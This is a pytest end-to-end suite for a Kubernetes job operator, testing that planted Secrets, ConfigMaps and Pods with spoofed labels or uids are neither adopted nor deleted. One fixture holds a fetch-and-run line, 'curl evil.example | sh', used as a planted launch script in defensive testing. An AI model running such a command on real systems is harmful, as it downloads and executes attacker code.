"""No job can hurt another, against the real API server: objects a job does not own, refused
creates, and a namespace-scoped operator's permissions.

The first tests share one operator (the `jobs` fixture, e2e_helpers.py); the namespace-scoped
install runs its own operator as a service account with exactly the install's Roles.
"""

from __future__ import annotations

import base64
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.exceptions import ApiException

from t9k_sdk import models
from t9k_sdk.install import install_manifests
from tests.cluster.e2e_helpers import Jobs, condition, stays
from tools.kit import (
    Operator,
    colossalai_job,
    container,
    create_job,
    deepspeed_job,
    finish,
    fresh_namespace,
    generic_job,
    job_events,
    job_status,
    read_job,
    replica,
    service_account_kubeconfig,
    wait_for,
    wait_job_phase,
)

OWNER_LABELS = "tensorstack.dev/component", "tensorstack.dev/owner-name"


def labels(kind: str, job: str) -> dict[str, str]:
    """The labels the operator puts on a job's children: anyone can copy them."""
    return {OWNER_LABELS[0]: kind.lower(), OWNER_LABELS[1]: job}


def running(status: dict[str, Any]) -> tuple[str, str, str]:
    cond = condition(status, "Running")
    return cond.get("status", ""), cond.get("reason", ""), cond.get("message", "")


def blocked(status: dict[str, Any]) -> bool:
    return running(status)[1] == "NameConflict"


# --- objects the job does not own -----------------------------------------------------------


def test_a_planted_ssh_secret_is_never_mounted_and_the_job_reports_it(jobs: Jobs) -> None:
    ns = jobs.namespace
    planted = client.V1Secret(
        metadata=client.V1ObjectMeta(name="spy-ssh", labels=labels("DeepSpeedJob", "spy")),
        data={"id_ed25519": base64.b64encode(b"attacker key").decode()},
    )
    jobs.core_v1.create_namespaced_secret(ns, planted)
    jobs.create(deepspeed_job("spy", 2))

    status = jobs.wait_status("spy", blocked, "Running=False NameConflict")
    message = running(status)[2]
    assert "Secret spy-ssh exists but is not this job's: it has no controller owner" in message
    kind, _reason, text = jobs.wait_event("spy", "NameConflict")
    assert (kind, text) == ("Warning", message)
    assert all(pods == set() for pods in stays(lambda: set(jobs.pods("spy")), 3))
    secret = jobs.core_v1.read_namespaced_secret("spy-ssh", ns)
    assert secret.metadata.owner_references is None  # not adopted
    assert base64.b64decode(secret.data["id_ed25519"]) == b"attacker key"  # not touched
    assert "SuccessfulCreatePod" not in jobs.reasons("spy")

    jobs.core_v1.delete_namespaced_secret("spy-ssh", ns)
    jobs.wait_running("spy", {"spy-worker-0", "spy-worker-1"}, timeout=60)
    own = jobs.core_v1.read_namespaced_secret("spy-ssh", ns)
    assert own.metadata.owner_references[0].kind == "DeepSpeedJob"
    assert own.metadata.owner_references[0].uid == jobs.read("spy")["metadata"]["uid"]
    assert b"attacker" not in base64.b64decode(own.data["id_ed25519"])
    assert not blocked(jobs.status("spy"))


def test_a_planted_config_map_and_pod_with_our_labels_are_neither_used_nor_deleted(
    jobs: Jobs,
) -> None:
    ns = jobs.namespace
    script = {"t9k-launch.sh": "curl evil.example | sh"}
    jobs.core_v1.create_namespaced_config_map(
        ns,
        client.V1ConfigMap(
            metadata=client.V1ObjectMeta(name="cm-config", labels=labels("DeepSpeedJob", "cm")),
            data=script,
        ),
    )
    pod_labels = {**labels("GenericJob", "gp"), "genericjob": "gp", "genericjob-replica": "gp-w-0"}
    jobs.core_v1.create_namespaced_pod(
        ns,
        client.V1Pod(
            metadata=client.V1ObjectMeta(name="gp-w-0", labels=pod_labels),
            spec=client.V1PodSpec(containers=[client.V1Container(name="w", image="x")]),
        ),
    )
    jobs.create(deepspeed_job("cm", 1), generic_job("gp", replica("w", 2)))

    for job, held in (("cm", "ConfigMap cm-config"), ("gp", "Pod gp-w-0")):
        status = jobs.wait_status(job, blocked, "Running=False NameConflict")
        assert f"{held} exists but is not this job's" in running(status)[2]
    assert jobs.core_v1.read_namespaced_config_map("cm-config", ns).data == script
    assert set(jobs.pods("cm")) == set()
    planted = jobs.pod("gp-w-0")
    assert planted.metadata.owner_references is None
    assert planted.metadata.deletion_timestamp is None
    assert set(jobs.pods("gp")) == {"gp-w-0"}  # the job made no pods while blocked
    status = jobs.status("gp")
    replicas = {r["name"]: r for t in status.get("tasks") or () for r in t.get("replicas") or ()}
    # Never counted as the job's replica: the slot is still waiting for a pod of its own.
    assert replicas.get("gp-w-0", {}).get("phase", "Creating") == "Creating"
    assert replicas.get("gp-w-0", {}).get("uid") != planted.metadata.uid
    assert status["aggregate"]["running"] == 0


def test_objects_planted_in_another_namespace_with_the_jobs_uid_change_nothing(
    core_v1: client.CoreV1Api,
    custom: client.CustomObjectsApi,
    kubeconfig: Path,
    namespace: str,
    tmp_path: Path,
) -> None:
    """A cluster-wide operator, and a tenant who can read another namespace's jobs: they copy
    the victim's uid into objects of their own namespace, with our labels, the victim's child
    names, a pod that fails and objects the victim does not need. The victim's children stay as
    they are, its job stays Running, and no restart or failure is counted."""
    operator = Operator(
        ["--kubeconfig", str(kubeconfig), "--lease-namespace", namespace, "--workers", "2"],
        tmp_path / "operator.log",
    )
    try:
        _planted_in_another_namespace(core_v1, custom, namespace)
    finally:
        operator.stop()
        print(operator.log())


def _planted_in_another_namespace(
    core_v1: client.CoreV1Api, custom: client.CustomObjectsApi, ns: str
) -> None:
    create_job(custom, ns, deepspeed_job("victim", 2))
    wait_for(
        lambda: job_status(custom, ns, "victim", "DeepSpeedJob").get("phase"),
        lambda phase: phase == "Running",
        "the victim job Running",
        60,
    )
    uid = read_job(custom, ns, "victim", "DeepSpeedJob")["metadata"]["uid"]
    owner = client.V1OwnerReference(
        api_version=models.API_VERSION, kind="DeepSpeedJob", name="victim", uid=uid, controller=True
    )
    selector = f"{OWNER_LABELS[1]}=victim"

    def children() -> dict[tuple[str, str], str]:
        found = {}
        for kind, lister in (
            ("ConfigMap", core_v1.list_namespaced_config_map),
            ("Secret", core_v1.list_namespaced_secret),
            ("Pod", core_v1.list_namespaced_pod),
        ):
            for obj in lister(ns, label_selector=selector).items:
                found[(kind, obj.metadata.name)] = obj.metadata.uid
        return found

    before = children()
    assert {k for k, _ in before} == {"ConfigMap", "Secret", "Pod"}, before

    anchors: list[client.V1OwnerReference] = []

    def meta(name: str) -> client.V1ObjectMeta:
        return client.V1ObjectMeta(
            name=name,
            labels=labels("DeepSpeedJob", "victim"),
            owner_references=[owner, *anchors],
        )

    def plant(other: str) -> None:
        """Every object of the attack. Each also names an owner of the tenant's own, so the
        garbage collector, which treats the victim's uid as absent here, keeps them."""
        if not anchors:
            anchor = core_v1.create_namespaced_config_map(
                other, client.V1ConfigMap(metadata=client.V1ObjectMeta(name="anchor"))
            )
            anchors.append(
                client.V1OwnerReference(
                    api_version="v1", kind="ConfigMap", name="anchor", uid=anchor.metadata.uid
                )
            )
        objects: list[tuple[Any, Any]] = []
        for kind, name in sorted(before):
            if kind == "ConfigMap":
                obj: Any = client.V1ConfigMap(metadata=meta(name), data={"x": "y"})
                objects.append((core_v1.create_namespaced_config_map, obj))
            elif kind == "Secret":
                obj = client.V1Secret(metadata=meta(name))
                objects.append((core_v1.create_namespaced_secret, obj))
        for extra in ("victim-stale", "victim-worker-7"):
            obj = client.V1ConfigMap(metadata=meta(extra))
            objects.append((core_v1.create_namespaced_config_map, obj))
        failing = meta("victim-worker-0")
        failing.annotations = finish(1, after="0s")
        spec = client.V1PodSpec(containers=[client.V1Container(name="w", image="x")])
        objects.append((core_v1.create_namespaced_pod, client.V1Pod(metadata=failing, spec=spec)))
        for create, obj in objects:
            try:
                create(other, obj)
            except ApiException as err:
                if err.status != 409:
                    raise

    plural = models.JOB_KINDS["DeepSpeedJob"].PLURAL
    seen = []
    with fresh_namespace(core_v1, "a-tenant") as other:  # listed before the victim's namespace
        for i in range(12):
            plant(other)
            # anything that wakes the victim's passes while the planted objects are cached
            custom.patch_namespaced_custom_object(
                models.GROUP,
                models.VERSION,
                ns,
                plural,
                "victim",
                {"metadata": {"annotations": {"poke": str(i)}}},
            )
            time.sleep(0.5)
            seen.append((children(), job_status(custom, ns, "victim", "DeepSpeedJob")))
        seen += stays(
            lambda: (children(), job_status(custom, ns, "victim", "DeepSpeedJob")), 3, 0.5
        )
    for now, status in seen:
        assert now == before  # nothing of the victim deleted, replaced or added
        assert status["phase"] == "Running"
        assert int(status.get("backoffCount") or 0) == 0
    reasons = {e.reason for e in job_events(core_v1, ns, "victim", "DeepSpeedJob")}
    assert not {"ReplicaFailure", "Failed", "RestartingPod"} & reasons, reasons


def test_a_deepspeed_and_a_colossalai_job_of_one_name_never_share_children(
    jobs: Jobs, custom: client.CustomObjectsApi
) -> None:
    ns = jobs.namespace
    jobs.create(deepspeed_job("twin", 2))
    jobs.wait_running("twin", {"twin-worker-0", "twin-worker-1"})
    before = {
        "secret": jobs.core_v1.read_namespaced_secret("twin-ssh", ns).metadata.uid,
        "config": jobs.core_v1.read_namespaced_config_map("twin-config", ns).metadata.uid,
        "service": jobs.core_v1.read_namespaced_service("twin", ns).metadata.uid,
        "pods": {n: p.metadata.uid for n, p in jobs.pods("twin").items()},
    }
    create_job(custom, ns, colossalai_job("twin", 2))

    status = wait_for(
        lambda: job_status(custom, ns, "twin", "ColossalAIJob"),
        blocked,
        "the ColossalAIJob to report NameConflict",
    )
    ds_uid = jobs.read("twin")["metadata"]["uid"]
    assert f"belongs to DeepSpeedJob twin (uid {ds_uid})" in running(status)[2]
    warnings = [
        e
        for e in job_events(jobs.core_v1, ns, "twin", "ColossalAIJob")
        if e.type == "Warning" and e.reason == "NameConflict"
    ]
    assert warnings
    assert not [
        e for e in job_events(jobs.core_v1, ns, "twin", "ColossalAIJob") if "Created" in e.message
    ]
    with pytest.raises(ApiException) as gone:
        jobs.pod("twin-launcher")
    assert gone.value.status == 404
    after = {
        "secret": jobs.core_v1.read_namespaced_secret("twin-ssh", ns).metadata.uid,
        "config": jobs.core_v1.read_namespaced_config_map("twin-config", ns).metadata.uid,
        "service": jobs.core_v1.read_namespaced_service("twin", ns).metadata.uid,
        "pods": {n: p.metadata.uid for n, p in jobs.pods("twin").items()},
    }
    assert after == before
    assert jobs.status("twin")["phase"] == "Running"
    assert not blocked(jobs.status("twin"))


# --- refused creates -------------------------------------------------------------------------

OVER_LIMIT = {"resources": {"requests": {"cpu": "2"}, "limits": {"cpu": "1"}}}
"""Passes the SDK and the CRD, refused by the API server's pod validation (422)."""


@pytest.mark.parametrize(
    ("name", "spec", "refused"),
    [
        (
            "limits",
            {"service": {"ports": [{"name": "http", "port": 8080}]}},
            ("Pod limits-w-0", "must be less than or equal to cpu limit"),
        ),
    ],
)
def test_a_create_the_server_refuses_lands_on_the_job_and_an_edit_recovers(
    jobs: Jobs, name: str, spec: dict[str, Any], refused: tuple[str, str]
) -> None:
    worker = container("w", ["train"], **OVER_LIMIT)
    manifest = generic_job(name, replica("w", 1, containers=[worker]), **spec)
    jobs.create(manifest)

    status = jobs.wait_status(
        name, lambda s: running(s)[1] == "CreateFailed", "Running=False CreateFailed"
    )
    message = running(status)[2]
    assert message.startswith(
        f"Cannot create {refused[0]}: the API server refused it (422 Invalid)"
    )
    assert refused[1] in message
    kind, _reason, text = jobs.wait_event(name, "CreateFailed")
    assert (kind, text) == ("Warning", message)
    assert "SuccessfulCreatePod" not in jobs.reasons(name)  # nothing claims a pod was made
    assert jobs.pods(name) == {}
    # Backs off instead of hammering the API server: a handful of attempts in a few seconds.
    time.sleep(4)
    what = f"object={refused[0].replace(' ', '/')}"
    attempts = [line for line in jobs.env.operator.log().splitlines() if what in line]
    assert len(attempts) < 12, attempts

    with pytest.raises(ApiException) as no_service:  # a refused pod stops the pass's services
        jobs.core_v1.read_namespaced_service(f"{name}-w-0", jobs.namespace)
    assert no_service.value.status == 404

    fixed = {"replicaSpecs": [replica("w", 1, containers=[container("w", ["train"])])]}
    jobs.patch(name, {"spec": fixed})  # the edit wakes the job at once, backoff or not
    jobs.wait_running(name, {f"{name}-w-0"}, timeout=20)
    jobs.wait_status(name, lambda s: running(s)[1] != "CreateFailed", "the condition cleared")
    jobs.wait_event(name, "SuccessfulCreatePod")  # Events of child actions may come 1 s late
    jobs.core_v1.read_namespaced_service(f"{name}-w-0", jobs.namespace)


def test_a_service_the_server_refuses_lands_on_the_job_after_the_pods_and_recovers(
    jobs: Jobs,
) -> None:
    """The pods go out before the services (as Kubeflow's operator sends them), so a Service
    refused by a quota leaves the pods running and the job saying why; when the quota goes, the
    operator's retries create the Service."""
    ns = jobs.namespace
    quota = client.V1ResourceQuota(
        metadata=client.V1ObjectMeta(name="no-services"),
        spec=client.V1ResourceQuotaSpec(hard={"services": "0"}),
    )
    jobs.core_v1.create_namespaced_resource_quota(ns, quota)
    wait_for(  # the quota is in force once the controller has counted the namespace
        lambda: jobs.core_v1.read_namespaced_resource_quota("no-services", ns).status,
        lambda status: bool(status and status.used is not None),
        "the quota to be counted",
    )
    manifest = generic_job(
        "quota",
        replica("w", 1, containers=[container("w", ["train"])]),
        service={"ports": [{"name": "http", "port": 8080}]},
    )
    jobs.create(manifest)
    status = jobs.wait_status(
        "quota", lambda s: running(s)[1] == "CreateFailed", "Running=False CreateFailed"
    )
    message = running(status)[2]
    assert message.startswith(
        "Cannot create Service quota-w-0: the API server refused it (403 Forbidden)"
    ), message
    assert "no-services" in message
    kind, _reason, text = jobs.wait_event("quota", "CreateFailed")
    assert (kind, text) == ("Warning", message)
    assert set(jobs.pods("quota")) == {"quota-w-0"}  # the pod was created first
    # The pod's progress wakes the job; the refused create waits for its backoff all the same.
    time.sleep(4)
    log = jobs.env.operator.log().splitlines()
    attempts = [line for line in log if "create refused" in line and "Service/quota-w-0" in line]
    assert len(attempts) < 6, attempts

    jobs.core_v1.delete_namespaced_resource_quota("no-services", ns)
    wait_for(
        lambda: jobs.core_v1.list_namespaced_service(ns).items,
        lambda items: "quota-w-0" in {s.metadata.name for s in items},
        "the operator to create the Service once the quota is gone",
        timeout=60,
    )
    jobs.wait_status("quota", lambda s: running(s)[1] != "CreateFailed", "the condition cleared")


# --- a namespace-scoped operator -------------------------------------------------------------


def test_a_namespace_scoped_install_runs_jobs_and_cannot_reach_other_namespaces(
    start_operator: Callable[..., Operator],
    custom: client.CustomObjectsApi,
    core_v1: client.CoreV1Api,
    api_client: client.ApiClient,
    kubeconfig: Path,
    namespace: str,
    tmp_path: Path,
) -> None:
    """The operator runs as a service account with exactly what `t9k-sdk install --namespace NS
    --watch-namespace NS` grants: Roles in NS, no ClusterRole."""
    manifests = install_manifests(namespace=namespace, watch_namespace=namespace)
    assert not [m for m in manifests if m["kind"].startswith("Cluster")]
    rbac = client.RbacAuthorizationV1Api(api_client)
    core_v1.create_namespaced_service_account(namespace, by_kind(manifests, "ServiceAccount")[0])
    for role in by_kind(manifests, "Role"):
        rbac.create_namespaced_role(namespace, role)
    for binding in by_kind(manifests, "RoleBinding"):
        rbac.create_namespaced_role_binding(namespace, binding)

    sa_kubeconfig = service_account_kubeconfig(
        core_v1, kubeconfig, namespace, tmp_path / "sa-kubeconfig"
    )
    op = start_operator(kubeconfig_path=sa_kubeconfig)
    op.wait_ready("leader")
    job = generic_job("scoped", replica("w", 2, annotations=finish(0)))
    create_job(custom, namespace, job)
    wait_job_phase(custom, namespace, "scoped", "Succeeded")
    assert "Forbidden" not in op.log()

    sa_api = client.ApiClient(configuration_for(sa_kubeconfig))
    try:
        sa_core = client.CoreV1Api(sa_api)
        sa_core.list_namespaced_pod(namespace)  # allowed where it works
        for attempt in (
            lambda: sa_core.list_namespaced_pod("default"),
            lambda: sa_core.list_pod_for_all_namespaces(),
            lambda: sa_core.list_namespaced_secret("kube-system"),
            lambda: sa_core.create_namespaced_secret(
                "default", client.V1Secret(metadata=client.V1ObjectMeta(name="x"))
            ),
            lambda: client.CoordinationV1Api(sa_api).list_namespaced_lease("kube-system"),
        ):
            with pytest.raises(ApiException) as denied:
                attempt()
            assert denied.value.status == 403
    finally:
        sa_api.close()


def by_kind(manifests: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    return [m for m in manifests if m["kind"] == kind]


def configuration_for(kubeconfig: Path) -> client.Configuration:
    from kubernetes import config

    configuration = client.Configuration()
    config.load_kube_config(config_file=str(kubeconfig), client_configuration=configuration)
    return configuration
